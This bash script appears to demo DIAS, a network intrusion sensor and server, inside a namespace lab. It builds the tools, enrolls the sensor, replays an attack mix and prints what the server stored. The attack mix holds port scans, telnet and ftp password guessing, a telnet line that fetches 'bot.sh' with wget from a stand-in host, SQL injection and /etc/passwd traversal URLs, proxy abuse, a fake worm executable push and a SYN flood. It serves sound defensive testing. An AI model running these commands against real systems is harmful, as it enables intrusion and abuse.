#!/usr/bin/env bash
# The DIAS demo: sensor and server end to end, in the lab (scripts/lab.sh).
#
# Builds; brings up the namespace LAN; makes the server's CA and an
# enrollment token (diasctl); starts dias-server (SQLite) on the server
# segment; enrolls the sensor over real mutual TLS (dias-sensor enroll);
# starts dias-sensor on the LAN; plays a bounded, realistic attack mix
# from the attacker namespace; waits until the sensor's spool has drained
# to the server; then prints what the server stored, through diasctl.
# Everything is torn down on exit or Ctrl-C.
set -euo pipefail
cd "$(dirname "$0")/.."
top=$PWD

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
step() { printf '  - %s\n' "$*"; }

[ "$(id -u)" -eq 0 ] || { echo "demo: run as root (it builds network namespaces)" >&2; exit 1; }

say "Building DIAS (gcc, warnings as errors) into build/"
cmake -G Ninja -S . -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null
ninja -C build | tail -n 1

export LAB_PREFIX=${LAB_PREFIX:-dias}
work=$(mktemp -d)
chmod 755 "$work"
sensor_pid= server_pid=
on() { scripts/lab.sh exec "$@"; }
ctl() { build/ctl/diasctl -f "$work/server.conf" "$@"; }
# SIGTERM the sensor's parent (not the lab.sh wrapper) and wait for it.
sensor_stop() {
	local pid
	pid=$(sed -n 's/.*parent: started: parent \([0-9]*\),.*/\1/p' \
	    "$work/sensor.log" | tail -n 1)
	[ -n "$pid" ] && kill -TERM "$pid" 2>/dev/null
	wait "$sensor_pid" 2>/dev/null || true
	sensor_pid=
}
server_stop() {
	pkill -TERM -f "dias-server -d -f $work/server.conf" 2>/dev/null || true
	wait "$server_pid" 2>/dev/null || true
	server_pid=
}
cleanup() {
	rc=$?
	[ -n "$sensor_pid" ] && sensor_stop
	[ -n "$server_pid" ] && server_stop
	say "Tearing the lab down"
	scripts/lab.sh down
	rm -rf "$work"
	exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

say "Bringing up the lab: attacker -> fw -> LAN (sensor 10.10.0.2, client 10.10.0.3), server 10.30.0.2"
scripts/lab.sh up
scripts/lab.sh status

say "Server: configuration, CA and server certificate, an organization, an enrollment token"
mkdir -p "$work/server"
cat >"$work/server.conf" <<CONF
listen 10.30.0.2 port 8443
store "sqlite://$work/server/dias.db"
data-dir $work/server/data
ca-dir $work/server/ca
access-log $work/server/access.log
server-name 10.30.0.2
threads 4
shutdown-grace 10s
CONF
build/server/dias-server -n -f "$work/server.conf"
ctl ca init | sed 's/^/  /'
ctl org add acme
token=$(ctl sensor add lab-sensor --org acme)
step "diasctl sensor add lab-sensor --org acme: a one-time token (${token:0:8}..., expires in a day)"

say "Starting dias-server in the server namespace (HTTPS, TLS 1.3, mutual certificates, SQLite)"
on server build/server/dias-server -d -f "$work/server.conf" \
	>"$work/server.log" 2>&1 &
server_pid=$!
for _ in $(seq 1 100); do
	on server curl -s --cacert "$work/server/ca/ca.pem" \
	    https://10.30.0.2:8443/healthz >/dev/null 2>&1 && break
	kill -0 "$server_pid" 2>/dev/null || { cat "$work/server.log"; exit 1; }
	sleep 0.1
done
step "$(on server curl -s --cacert "$work/server/ca/ca.pem" https://10.30.0.2:8443/healthz)"

conf=etc/lab-sensor.conf
say "Enrolling the sensor: its key is made on the sensor and never leaves it; the server's CA signs its request"
on sensor build/sensor/dias-sensor -D dir="$work" -f "$conf" \
	enroll https://10.30.0.2:8443 "$token" lab-sensor | sed 's/^/  /'
ctl sensor list | sed 's/^/  /'

say "Checking the sensor configuration (dias-sensor -n -f $conf)"
build/sensor/dias-sensor -n -D dir="$work" -f "$conf" |
	sed -n '/^templates/,/^sensor:/p' | grep -v '^sensor:'

# Start the sensor in the sensor namespace; wait until its engine runs.
sensor_start() {
	on sensor build/sensor/dias-sensor -d -D dir="$work" -f "$conf" \
		>>"$work/sensor.log" 2>&1 &
	sensor_pid=$!
	for _ in $(seq 1 50); do
		[ "$(grep -c "engine: running" "$work/sensor.log")" -ge "$1" ] && return 0
		kill -0 "$sensor_pid" 2>/dev/null || { cat "$work/sensor.log"; exit 1; }
		sleep 0.1
	done
}

say "Starting dias-sensor in the sensor namespace (root parent, jailed engine, capture, shipper)"
sensor_start 1
grep "parent: started" "$work/sensor.log" | sed 's/^/  /'

say "The attacker plays a bounded attack mix (every loop has a count and a timeout)"
step "ping sweep of 10.10.0.1-40: the router's ARP questions make the sensor claim what is unused"
on attacker nmap -n -sn --max-retries 1 10.10.0.1-40 >/dev/null 2>&1 || true
up=$(on attacker nmap -n -sn --max-retries 1 10.10.0.1-40 -oG - 2>/dev/null |
	awk '/Up$/ { print $2 }')
printf '      %s hosts answer: the router .1, the sensor itself .2, the client .3, and %s addresses the sensor claimed\n' \
	"$(echo "$up" | grep -c .)" "$(echo "$up" | grep -vcx '10.10.0.[123]')"
step "SYN scan of the DIAS paper's top TCP ports on four hosts (nmap -sS)"
on attacker nmap -n -Pn -sS --max-retries 1 \
	-p 21,22,23,25,80,135,139,445,1025,1080,2745,3127,3128,6129,8080 \
	10.10.0.20,21,30,35 -oG - 2>/dev/null | sed -n 's/^Host: \([0-9.]*\).*Ports: /      \1: /p'
step "UDP probes of DNS, NetBIOS, SNMP and MS-SQL (nmap -sU)"
on attacker nmap -n -Pn -sU --max-retries 1 -p 53,137,161,1434 \
	10.10.0.20,30 -oG - 2>/dev/null | sed -n 's/^Host: \([0-9.]*\).*Ports: /      \1: /p'
step "a worm-like SMB/NetBIOS sweep of 10.10.0.20-29 (nmap -p139,445), then smbclient -L and smb-os-discovery"
on attacker nmap -n -Pn -sS --max-retries 1 -p 139,445 10.10.0.20-29 \
	>/dev/null 2>&1 || true
# Windows 2000 speaks SMB1 only; today's smbclient must be told to.
on attacker timeout 10 smbclient -N -L //10.10.0.20 \
	--option='client min protocol=NT1' 2>&1 | sed -n '1,8s/^/      /p' || true
on attacker timeout 20 nmap -n -Pn -p445 --script smb-os-discovery 10.10.0.21 2>/dev/null |
	sed -n 's/^|[ _]*\(OS\|Computer name\|NetBIOS computer name\): */      \1: /p' || true
step "telnet and ftp login attempts (root/admin guesses)"
for pw in admin 123456 root; do
	printf 'root\r\n%s\r\nuname -a\r\nwget http://192.0.2.66/bot.sh\r\nexit\r\n' "$pw" |
		on attacker nc -q 2 -w 3 10.10.0.30 23 >/dev/null 2>&1 || true
	on attacker curl -s -m 5 -o /dev/null "ftp://root:$pw@10.10.0.30/" || true
done
step "an HTTP exploit attempt (SQL injection) and a directory traversal (curl)"
on attacker curl -s -m 5 -o /dev/null -A "sqlmap/1.7" \
	"http://10.10.0.20/login.asp?user=admin'%20OR%20'1'='1" || true
on attacker curl -s -m 5 -o /dev/null --path-as-is \
	"http://10.10.0.35/../../../../etc/passwd" || true
step "open-proxy abuse: a GET through 10.10.0.30:3128 (recorded, never forwarded)"
on attacker curl -s -m 5 -o /dev/null -x http://10.10.0.30:3128 \
	http://192.0.2.80/spam-relay || true
step "SOCKS4 CONNECT to 192.0.2.25:25 through 10.10.0.30:1080, as spammers do"
printf '\x04\x01\x00\x19\xc0\x00\x02\x19spam\x00' |
	on attacker nc -q 2 -w 3 10.10.0.30 1080 >/dev/null 2>&1 || true
step "a MyDoom-style push of an executable to 10.10.0.30:3127"
{ printf '\x85\x13\x3c\x9e\xa2'; printf 'MZ'; head -c 4096 /dev/urandom; } |
	on attacker nc -q 2 -w 3 10.10.0.30 3127 >/dev/null 2>&1 || true
step "SNMP community guessing (snmpget) and a DNS query (dig)"
for c in private admin public; do
	on attacker snmpget -v1 -c "$c" -t 1 -r 0 -On 10.10.0.20 \
		1.3.6.1.2.1.1.1.0 2>/dev/null | sed 's/^/      /' || true
done
on attacker dig +tries=1 +time=2 @10.10.0.30 www.example.test 2>/dev/null |
	sed -n 's/.*status: \([A-Z]*\).*/      dns answer: \1/p' || true
step "a bounded SYN burst at 10.10.0.21:445 (hping3, 300 packets)"
on attacker hping3 -q -c 300 -i u3000 -S -p 445 10.10.0.21 >/dev/null 2>&1 || true

say "Waiting for the sensor's spool to drain to the server"
last= same=0
for _ in $(seq 1 60); do
	sleep 1
	now=$(ctl sensor list | awk '$1 == "lab-sensor" { print $5 }')
	if [ -n "$now" ] && [ "$now" = "$last" ]; then
		same=$((same + 1))
		[ "$same" -ge 3 ] && break
	else
		same=0
	fi
	last=$now
done
step "the server holds lab-sensor's events up to seq ${last:-?}"

say "Restarting the sensor, as after an upgrade: the capture file closed at the stop is shipped at the start"
sensor_stop
sensor_start 2
for _ in $(seq 1 100); do
	ls "$work"/server/data/captures/lab-sensor/*.pcap >/dev/null 2>&1 && break
	sleep 0.2
done
sensor_stop
step "the sensor is stopped; its self-protection table went with it"

say "What the server stored (diasctl)"
step "diasctl sensor list"
ctl sensor list | sed 's/^/    /'
step "diasctl query connections --dport 445 --limit 5"
ctl query connections --dport 445 --limit 5 | sed 's/^/    /'
step "diasctl export | summary: connections per port (the DIAS paper's Table 1), sources, service events, uploads"
ctl export --sensor lab-sensor >"$work/export.ndjson"
/usr/bin/python3 scripts/lib/events-summary.py "$work/export.ndjson" \
	"$work/server/data/uploads"
step "capture files the server received (it checked each sha256 the sensor sent):"
find "$work/server/data/captures" -name '*.pcap' 2>/dev/null | while read -r f; do
	printf '    %s: %s packets\n' "$(basename "$f")" \
		"$(capinfos -c -M "$f" 2>/dev/null | awk -F: '/Number of packets/ { gsub(/ /, "", $2); print $2 }')"
done

say "Done.  scripts/test.sh runs every test; docs/ has the man pages."
